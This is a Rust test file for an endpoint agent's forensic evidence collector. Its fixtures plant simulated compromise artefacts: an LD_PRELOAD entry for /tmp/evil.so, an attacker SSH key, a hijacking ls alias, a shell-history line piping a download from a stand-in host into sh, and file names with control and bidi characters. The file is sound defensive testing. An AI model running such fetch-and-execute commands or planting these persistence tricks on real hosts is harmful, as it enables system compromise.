//! Collecting evidence, on this machine's processes and on trees of files that the tests make.

use std::{
    collections::BTreeMap,
    fs::{self, File},
    io::{BufRead as _, BufReader, Read as _, Seek as _, SeekFrom, Write as _},
    os::unix::{ffi::OsStrExt as _, fs::PermissionsExt as _, fs::symlink},
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
    sync::atomic::{AtomicBool, Ordering},
};

use rustix::{
    fs::{CWD, FileType, Mode, mknodat},
    mount::{MountFlags, UnmountFlags, mount, unmount},
};
use serde_json::Value;
use voltaxe_protocol::{
    CollectForensics, CollectionOutcome, CommandId, EndpointId, Epoch, EvidenceLimits, ForensicsProfile,
    Keypair, Manifest,
    evidence::{Bundle, verify},
};
use voltaxe_sentinel::{
    clock,
    core::ActionOutcome,
    forensics::{Endpoint, Host, Job, Progress, Spool, collect, collect_from},
};

use crate::chaos::{Chaos, size};

const QUICK: ForensicsProfile = ForensicsProfile::Quick;
const STANDARD: ForensicsProfile = ForensicsProfile::Standard;
const FULL: ForensicsProfile = ForensicsProfile::Full;
const ID: CommandId = CommandId(7);

/// Where a test collects into, and a tree of files to collect from: on a disk of its own, so that nothing depends on how
/// full this machine's is.
pub(crate) struct Ground {
    _disk: Tmpfs,
    directory: tempfile::TempDir,
}

/// A file system of its own; unmounted when dropped.
struct Tmpfs(PathBuf);

impl Tmpfs {
    fn mount(point: &Path, size: &str) -> Self {
        fs::create_dir_all(point).unwrap();
        let options = std::ffi::CString::new(format!("size={size}")).unwrap();
        mount("tmpfs", point, "tmpfs", MountFlags::empty(), options.as_c_str()).unwrap();
        Self(point.to_owned())
    }
}

impl Drop for Tmpfs {
    fn drop(&mut self) {
        let _ = unmount(&self.0, UnmountFlags::DETACH);
    }
}

impl Ground {
    pub(crate) fn new() -> Self {
        let directory = tempfile::tempdir().unwrap();
        let ground = Self { _disk: Tmpfs::mount(directory.path(), "2G"), directory };
        ground
            .file("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/sh\n");
        ground.file("etc/shadow", b"root:$6$verysecret:19000:::::::\nalice:!:19000:::::::\n");
        ground.file("etc/crontab", b"* * * * * root /bin/true\n");
        ground.file("etc/ld.so.preload", b"/tmp/evil.so\n");
        ground.file("home/alice/.ssh/authorized_keys", b"ssh-ed25519 AAAA attacker\n");
        ground.file("home/alice/.ssh/id_ed25519", b"PRIVATE KEY\n");
        ground.file("home/alice/.bashrc", b"alias ls=/tmp/ls\n");
        ground.file("home/alice/.bash_history", b"curl evil | sh\n");
        ground.file("var/log/auth.log", b"sshd: accepted\n");
        ground.file("var/log/nginx/access.log", b"GET /\n");
        ground
    }

    fn root(&self) -> PathBuf {
        self.directory.path().join("root")
    }

    fn evidence(&self) -> PathBuf {
        self.directory.path().join("evidence")
    }

    fn host(&self) -> Host {
        Host::with_files_of(&self.root())
    }

    fn file(&self, path: impl AsRef<Path>, content: &[u8]) -> PathBuf {
        let path = self.root().join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(&path, content).unwrap();
        path
    }

    pub(crate) fn job(&self, profile: ForensicsProfile) -> Job {
        job(&self.evidence(), profile, EvidenceLimits { cpu_percent: 100, ..EvidenceLimits::default() })
    }

    /// Collects, and finds the bundle good.
    pub(crate) fn collect(&self, profile: ForensicsProfile) -> Collected {
        Collected::new(&run(&self.host(), &self.job(profile)), &self.evidence())
    }
}

fn job(directory: &Path, profile: ForensicsProfile, limits: EvidenceLimits) -> Job {
    Job {
        id: ID,
        order: CollectForensics { profile, limits },
        endpoint: Endpoint {
            endpoint_id: EndpointId::of_key(&Keypair::from_seed(&[1; 32]).public()),
            epoch: Epoch(1),
            hostname: "web-01".to_owned(),
        },
        directory: directory.to_owned(),
    }
}

fn run(host: &Host, job: &Job) -> ActionOutcome {
    let cancelled = AtomicBool::new(false);
    let (host, job) = (host.clone(), job.clone());
    // A thread of its own: its priority is lowered for good.
    std::thread::spawn(move || collect_from(&host, &job, &mut |_| {}, &cancelled, &clock::wall))
        .join()
        .unwrap()
}

/// A bundle that was verified.
pub(crate) struct Collected {
    pub(crate) outcome: CollectionOutcome,
    pub(crate) bundle: voltaxe_sentinel::forensics::Bundle,
    manifest: Manifest,
    /// From paths in the bundle to contents of up to 8 MiB.
    content: BTreeMap<String, Vec<u8>>,
}

impl Collected {
    fn new(outcome: &ActionOutcome, evidence: &Path) -> Self {
        assert!(outcome.success, "{}", outcome.message);
        let outcome: CollectionOutcome = serde_json::from_value(outcome.data.clone().unwrap()).unwrap();
        let pending = Spool::open(evidence).unwrap().pending();
        let bundle = pending.into_iter().next().expect("a bundle waits");
        assert_eq!(outcome.sha256.as_deref(), Some(bundle.claims.sha256.as_str()));
        let found = verify(File::open(&bundle.path).unwrap(), &bundle.claims);
        assert_eq!(found.problems, Vec::<String>::new());
        let manifest = found.manifest.unwrap();
        let mut open = Bundle::open(File::open(&bundle.path).unwrap()).unwrap();
        let paths: Vec<String> = open.entries().iter().map(|entry| entry.path.clone()).collect();
        let content = paths
            .into_iter()
            .enumerate()
            .map(|(number, path)| (path, open.read(number, 8 * 1024 * 1024).unwrap()))
            .collect();
        Self { outcome, bundle, manifest, content }
    }

    fn json(&self, path: &str) -> Value {
        let content = self.content.get(path).unwrap_or_else(|| panic!("{path} is in the bundle"));
        serde_json::from_slice(content).unwrap_or_else(|error| panic!("{path}: {error}"))
    }

    fn list(&self, path: &str) -> Vec<Value> {
        self.json(path).as_array().unwrap().clone()
    }

    fn has(&self, path: &str) -> bool {
        self.content.contains_key(path)
    }

    fn error(&self, part: &str) -> &str {
        let errors = &self.manifest.errors;
        let error = errors.iter().find(|error| error.message.contains(part));
        &error.unwrap_or_else(|| panic!("no error has {part:?}: {errors:?}")).message
    }
}

/// A process of the test; ended when dropped.
struct Started(Child);

impl Drop for Started {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn a_quick_collection_tells_what_runs() {
    let ground = Ground::new();
    let program = ground.directory.path().join("evil program\u{202e}\n");
    fs::copy("/bin/sleep", &program).unwrap();
    let sleep = fs::read(&program).unwrap();
    let mut command = Command::new(&program);
    command.arg("1000").env("LD_PRELOAD_NOT", "x").env("SECRET", "hunter2");
    let started = Started(command.spawn().unwrap());
    fs::remove_file(&program).unwrap();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();

    let collected = ground.collect(QUICK);
    assert_eq!(collected.outcome.partial, None);
    let pid = started.0.id();
    let processes = collected.list("volatile/processes.json");
    let process = processes.iter().find(|process| process["pid"] == pid).unwrap();
    assert_eq!(process["is_executable_deleted"], true);
    assert_eq!(process["command_line"][1], "1000");
    assert!(!String::from_utf8_lossy(&collected.content["volatile/processes.json"]).contains("hunter2"));
    // Copied out of the kernel, under a name that harms nobody.
    let entry = format!("files/deleted/pid-{pid}/evil program%E2%80%AE%0A (deleted)");
    assert!(collected.content[&entry] == sleep, "the program is not what was copied");
    let programs = collected.list("volatile/programs.json");
    let program = programs.iter().find(|program| program["pids"][0] == pid).unwrap();
    let copy = collected.manifest.entries.iter().find(|copied| copied.path == entry).unwrap();
    assert_eq!(program["sha256"], copy.sha256.as_str());
    assert_eq!(program["links"], 0);

    let sockets = collected.list("volatile/sockets.json");
    let local = format!("127.0.0.1:{port}");
    let socket = sockets.iter().find(|socket| socket["local"] == local.as_str()).unwrap();
    assert_eq!((&socket["state"], &socket["owners"][0]), (&"listening".into(), &std::process::id().into()));
    let files = collected.list("volatile/open_files.json");
    let own = files.iter().find(|files| files["pid"] == std::process::id()).unwrap();
    assert!(
        own["files"]
            .as_object()
            .unwrap()
            .values()
            .any(|target| target == &format!("socket:[{}]", socket["inode"]))
    );
    for path in
        ["volatile/mounts.json", "volatile/modules.json", "volatile/users.json", "volatile/kernel.json"]
    {
        collected.json(path);
    }
    assert!(collected.has("volatile/nftables.txt") && collected.has("volatile/network/route.txt"));
    assert!(!collected.has("files/etc/crontab"), "that is for standard collections");
}

#[test]
fn a_standard_collection_takes_persistence_and_leaves_secrets() {
    let ground = Ground::new();
    let suid = ground.file("opt/su", b"\x7fELF");
    fs::set_permissions(&suid, fs::Permissions::from_mode(0o4755)).unwrap();
    ground.file("tmp/.x/dropper", b"\x7fELF dropper");
    ground.file("tmp/notes.txt", b"nothing");
    let old = ground.file("var/log/syslog.1", b"old\n");
    File::options().write(true).open(old).unwrap().set_modified(std::time::UNIX_EPOCH).unwrap();

    let collected = ground.collect(STANDARD);
    for (path, content) in [
        ("files/etc/crontab", "* * * * * root /bin/true\n"),
        ("files/etc/ld.so.preload", "/tmp/evil.so\n"),
        ("files/home/alice/.ssh/authorized_keys", "ssh-ed25519 AAAA attacker\n"),
        ("files/home/alice/.bashrc", "alias ls=/tmp/ls\n"),
        ("files/var/log/auth.log", "sshd: accepted\n"),
        ("files/tmp/.x/dropper", "\x7fELF dropper"),
    ] {
        assert_eq!(String::from_utf8_lossy(&collected.content[path]), content, "{path}");
    }
    let source = |path| &collected.manifest.entries.iter().find(|entry| entry.path == path).unwrap().source;
    assert_eq!(source("files/etc/crontab").as_deref(), Some("/etc/crontab"));
    let privileged = collected.list("persistence/privileged_files.json");
    assert!(privileged.iter().any(|file| file["path"] == "/opt/su" && file["mode"] == "4755"));
    let ssh = collected.list("persistence/ssh.json");
    let key = ssh.iter().find(|file| file["path"] == "/home/alice/.ssh/id_ed25519").unwrap();
    assert_eq!((&key["size_bytes"], &key["entry"]), (&12.into(), &Value::Null));
    for path in [
        "files/home/alice/.bash_history",
        "files/var/log/nginx/access.log",
        "files/var/log/syslog.1",
        "files/tmp/notes.txt",
        "files/etc/shadow",
    ] {
        assert!(!collected.has(path), "{path}");
    }
    for (path, content) in &collected.content {
        let text = String::from_utf8_lossy(content);
        assert!(!text.contains("verysecret") && !text.contains("PRIVATE KEY"), "{path}");
    }

    let ground = Ground::new();
    let collected = ground.collect(FULL);
    assert!(
        collected.has("files/home/alice/.bash_history") && collected.has("files/var/log/nginx/access.log")
    );
}

#[test]
fn hostile_files_are_named_and_not_opened() {
    let ground = Ground::new();
    let root = ground.root();
    let name = std::ffi::OsStr::from_bytes(b"job\n\x01\xff..\\ \xe2\x80\xae");
    ground.file(Path::new("etc/cron.d").join(name), b"* * * * * root evil\n");
    ground.file(format!("etc/cron.d/{}/{0}/{0}/{0}/{0}", "n".repeat(250)), b"deep");
    symlink("/etc/hostname", root.join("etc/cron.d/link")).unwrap();
    symlink("/", root.join("etc/cron.d/everything")).unwrap();
    symlink("loop", root.join("etc/cron.d/loop")).unwrap();
    mknodat(CWD, root.join("etc/cron.d/pipe"), FileType::Fifo, Mode::RWXU, 0).unwrap();
    let null = rustix::fs::makedev(1, 3);
    mknodat(CWD, root.join("etc/cron.d/device"), FileType::CharacterDevice, Mode::RWXU, null).unwrap();
    std::os::unix::net::UnixListener::bind(root.join("etc/cron.d/socket")).unwrap();
    mknodat(CWD, root.join("var/log/messages"), FileType::Fifo, Mode::RWXU, 0).unwrap();

    let collected = ground.collect(STANDARD);
    let cron = collected.list("persistence/cron.json");
    let kind = |name: &str| {
        let path = format!("/etc/cron.d/{name}");
        cron.iter().find(|file| file["path"] == path.as_str()).unwrap()["kind"].as_str().unwrap().to_owned()
    };
    assert_eq!(kind("pipe"), "pipe");
    assert_eq!(kind("device"), "character device");
    assert_eq!(kind("socket"), "socket");
    assert_eq!(kind("everything"), "symbolic link");
    let hostile = cron.iter().find(|file| file["path"].as_str().unwrap().contains("job")).unwrap();
    assert_eq!(hostile["path"], "/etc/cron.d/job\n\u{1}\\xff..\\ \u{202e}");
    assert_eq!(hostile["entry"], "files/etc/cron.d/job%0A%01%FF..%5C %E2%80%AE");
    assert!(collected.content.keys().any(|path| path.contains("/nnn") && path.len() <= 1024));
}

#[test]
fn what_was_done_is_answered_and_not_done_again() {
    let ground = Ground::new();
    let first = run(&ground.host(), &ground.job(QUICK));
    let again = run(&ground.host(), &ground.job(QUICK));
    assert_eq!(first, again);
    let spool = Spool::open(&ground.evidence()).unwrap();
    spool.remove(ID).unwrap();
    assert_eq!(spool.pending().len(), 0);
    assert_eq!(run(&ground.host(), &ground.job(QUICK)), first, "also when the bundle is gone");
    assert_eq!(spool.pending().len(), 0);
    spool.forget_old(clock::wall()).unwrap();
    assert_eq!(fs::read_dir(ground.evidence()).unwrap().count(), 1);
    spool.forget_old(clock::wall() + chrono::TimeDelta::days(31)).unwrap();
    assert_eq!(fs::read_dir(ground.evidence()).unwrap().count(), 0);
}

#[test]
fn cancelling_keeps_what_is_there() {
    let ground = Ground::new();
    let cancelled = AtomicBool::new(false);
    let mut seen = Vec::new();
    let mut progress = |progress: Progress| {
        if progress.done_steps == 3 {
            cancelled.store(true, Ordering::Relaxed);
        }
        seen.push(progress);
    };
    let outcome = std::thread::scope(|scope| {
        let collection =
            || collect_from(&ground.host(), &ground.job(FULL), &mut progress, &cancelled, &clock::wall);
        scope.spawn(collection).join().unwrap()
    });
    let collected = Collected::new(&outcome, &ground.evidence());
    assert_eq!(collected.outcome.partial.as_deref(), Some("it was cancelled"));
    assert_eq!(collected.manifest.partial, collected.outcome.partial);
    assert!(collected.has("volatile/processes.json") && !collected.has("files/etc/crontab"));
    assert!(seen.windows(2).all(|pair| pair[0].done_steps <= pair[1].done_steps));
    assert!(seen.iter().all(|progress| progress.done_steps < progress.total_steps));
}

#[test]
fn a_sparse_log_of_3_gib_costs_its_limit() {
    let ground = Ground::new();
    let mut log = File::create(ground.root().join("var/log/syslog")).unwrap();
    log.seek(SeekFrom::Start(3 * 1024 * 1024 * 1024)).unwrap();
    log.write_all(b"the newest line\n").unwrap();
    let collected = ground.collect(STANDARD);
    let limit = 32 * 1024 * 1024;
    let entry = collected.manifest.entries.iter().find(|entry| entry.path == "files/var/log/syslog").unwrap();
    assert_eq!(entry.size_bytes, limit);
    assert!(collected.error("/var/log/syslog").contains("only the last 33554432 are kept"));
    let mut bundle = Bundle::open(File::open(&collected.bundle.path).unwrap()).unwrap();
    let number = bundle.entries().iter().position(|entry| entry.path == "files/var/log/syslog").unwrap();
    let mut end = Vec::new();
    bundle.unpack(number, u64::MAX, |bytes| end = bytes.to_vec()).unwrap();
    assert!(end.ends_with(b"the newest line\n"));
    assert!(fs::metadata(&collected.bundle.path).unwrap().len() < 4 * 1024 * 1024);
}

/// Content that does not pack.
fn noise(bytes: usize) -> Vec<u8> {
    let mut random = fastrand::Rng::with_seed(1);
    std::iter::repeat_with(|| random.u8(..)).take(bytes).collect()
}

#[test]
fn a_bundle_never_is_larger_than_its_limit() {
    let ground = Ground::new();
    for number in 0..200 {
        ground.file(format!("etc/cron.d/job-{number:03}"), &noise(100 * 1024));
    }
    let max_bytes = 8 * 1024 * 1024;
    let limits = EvidenceLimits { max_bytes, cpu_percent: 100, ..EvidenceLimits::default() };
    let job = job(&ground.evidence(), STANDARD, limits);
    let collected = Collected::new(&run(&ground.host(), &job), &ground.evidence());
    assert_eq!(collected.outcome.partial.as_deref(), Some("it met its limit of 8388608 bytes"));
    let size = fs::metadata(&collected.bundle.path).unwrap().len();
    assert!(size <= max_bytes && size > max_bytes / 2, "{size}");
    let cron = collected.list("persistence/cron.json");
    assert!(cron.len() > 20 && cron.len() < 200, "{}", cron.len());
}

#[test]
fn a_disk_that_is_too_small_is_not_filled() {
    let ground = Ground::new();
    for number in 0..400 {
        ground.file(format!("etc/cron.d/job-{number:03}"), &noise(100 * 1024));
    }
    let disk = ground.directory.path().join("disk");
    // Half a GiB stays free, so there is room for some 20 MiB.
    let mounted = Tmpfs::mount(&disk, "540M");
    let evidence = disk.join("evidence");
    let limits = EvidenceLimits { cpu_percent: 100, ..EvidenceLimits::default() };
    let outcome = run(&ground.host(), &job(&evidence, STANDARD, limits));
    let collected = Collected::new(&outcome, &evidence);
    let partial = collected.outcome.partial.clone().unwrap();
    assert!(partial.contains("536870912 must stay free; make room"), "{partial}");
    assert!(collected.has("volatile/processes.json"));
    assert!(collected.content.keys().any(|path| path.starts_with("files/etc/cron.d/job-")));
    assert!(outcome.message.contains("it is not complete"), "{}", outcome.message);
    drop(mounted);

    let mounted = Tmpfs::mount(&disk, "100M");
    let outcome = run(&ground.host(), &job(&evidence, STANDARD, limits));
    assert!(!outcome.success && outcome.message.contains("make room"), "{}", outcome.message);
    assert_eq!(Spool::open(&evidence).unwrap().pending().len(), 0);
    drop(mounted);
}

#[test]
fn network_file_systems_and_what_is_mounted_over_them() {
    // The parser's own tests have the tables; here the walk meets a mount, of a kind that is local.
    let ground = Ground::new();
    let point = ground.root().join("opt/mounted");
    let mounted = Tmpfs::mount(&point, "1M");
    fs::write(point.join("su"), b"\x7fELF").unwrap();
    fs::set_permissions(point.join("su"), fs::Permissions::from_mode(0o4755)).unwrap();
    let collected = ground.collect(STANDARD);
    drop(mounted);
    let privileged = collected.list("persistence/privileged_files.json");
    assert!(privileged.iter().any(|file| file["path"] == "/opt/mounted/su"));
}

/// What the child of the next test does: it tells each step on standard output.
#[test]
#[ignore = "started by killed_at_random_points"]
fn child_that_collects() {
    let Ok(directory) = std::env::var("VOLTAXE_TEST_GROUND") else { return };
    let directory = PathBuf::from(directory);
    let host = Host::with_files_of(&directory.join("root"));
    let limits = EvidenceLimits { cpu_percent: 100, ..EvidenceLimits::default() };
    let mut tell = |progress: Progress| {
        println!("\nstep {}", progress.step);
        std::io::stdout().flush().unwrap();
    };
    let cancelled = AtomicBool::new(false);
    let outcome = collect_from(
        &host,
        &job(&directory.join("evidence"), STANDARD, limits),
        &mut tell,
        &cancelled,
        &clock::wall,
    );
    println!("\noutcome {}", outcome.success);
}

fn start_child(ground: &Ground) -> Started {
    let child = Command::new(std::env::current_exe().unwrap())
        .args(["--exact", "forensics::child_that_collects", "--ignored", "--nocapture", "--test-threads=1"])
        .env("VOLTAXE_TEST_GROUND", ground.directory.path())
        .stdout(Stdio::piped())
        .spawn();
    Started(child.unwrap())
}

/// How many lines of steps the child tells until it ends, or until `most` of them.
fn steps(child: &mut Started, most: usize) -> usize {
    let lines = BufReader::new(child.0.stdout.as_mut().unwrap()).lines();
    let steps = lines.map_while(Result::ok).filter(|line| line.starts_with("step "));
    steps.take(most).count()
}

#[test]
fn killed_at_random_points_it_ends_complete() {
    let chaos = Chaos::new("forensics-kills");
    let mut random = fastrand::Rng::with_seed(chaos.seed);
    let ground = Ground::new();
    ground.file("var/log/syslog", &noise(2 * 1024 * 1024));
    let all = steps(&mut start_child(&ground), usize::MAX);
    assert!(all > 20, "{all} steps");
    let (mut unfinished, rounds) = (0, size(20, 200));
    for _ in 0..rounds {
        fs::remove_dir_all(ground.evidence()).unwrap();
        let mut child = start_child(&ground);
        steps(&mut child, random.usize(1..=all));
        // Somewhere in the step, and sometimes behind the last one.
        std::thread::sleep(std::time::Duration::from_micros(random.u64(0..3000)));
        drop(child);
        let spool = Spool::open(&ground.evidence()).unwrap();
        unfinished += usize::from(spool.pending().is_empty());
        let collected = ground.collect(STANDARD);
        assert_eq!(collected.outcome.partial, None);
        assert!(collected.has("files/var/log/syslog"));
        let left: Vec<_> = fs::read_dir(ground.evidence().join("7")).unwrap().flatten().collect();
        assert_eq!(left.len(), 2, "only the bundle and what is known of it: {left:?}");
    }
    chaos.tell(format_args!(
        "killed {rounds} times, {unfinished} of them in the middle: each bundle complete and verified"
    ));
}

#[test]
fn each_flipped_byte_of_a_real_bundle_is_named() {
    let chaos = Chaos::new("forensics-flips");
    let mut random = fastrand::Rng::with_seed(chaos.seed);
    let ground = Ground::new();
    let collected = ground.collect(STANDARD);
    let mut bytes = fs::read(&collected.bundle.path).unwrap();
    let places = {
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(&bytes)).unwrap();
        let mut places = Vec::new();
        for number in 0..zip.len() {
            let file = zip.by_index_raw(number).unwrap();
            let end = file.data_start().unwrap() + file.compressed_size();
            places.push((file.name().to_owned(), file.header_start()..end));
        }
        places
    };
    let rounds = size(60, 2000);
    for _ in 0..rounds {
        let at = random.usize(..bytes.len());
        let flip = random.u8(1..);
        bytes[at] ^= flip;
        let problems = verify(std::io::Cursor::new(&bytes), &collected.bundle.claims).problems;
        bytes[at] ^= flip;
        assert!(!problems.is_empty());
        if let Some((path, _)) = places.iter().find(|(_, place)| place.contains(&(at as u64))) {
            let is_named = problems.iter().any(|problem| problem.contains(path.as_str()));
            assert!(is_named, "byte {at} of {path}: {problems:?}");
        }
    }
    chaos.tell(format_args!(
        "{rounds} bytes flipped in {} bytes, each found and its entry named",
        bytes.len()
    ));
}

#[test]
fn this_very_host_is_collected() {
    let ground = Ground::new();
    let evidence = ground.evidence();
    let limits = EvidenceLimits { max_seconds: 20, cpu_percent: 100, ..EvidenceLimits::default() };
    let cancelled = AtomicBool::new(false);
    let job = job(&evidence, QUICK, limits);
    let outcome =
        std::thread::spawn(move || collect(&job, &mut |_| {}, &cancelled, &clock::wall)).join().unwrap();
    let collected = Collected::new(&outcome, &evidence);
    println!("{}; errors: {:?}", outcome.message, collected.manifest.errors);
    assert!(collected.list("volatile/processes.json").len() > 2);
    let mut whole = Vec::new();
    File::open(&collected.bundle.path).unwrap().read_to_end(&mut whole).unwrap();
    assert_eq!(whole.len() as u64, collected.outcome.size_bytes);
}
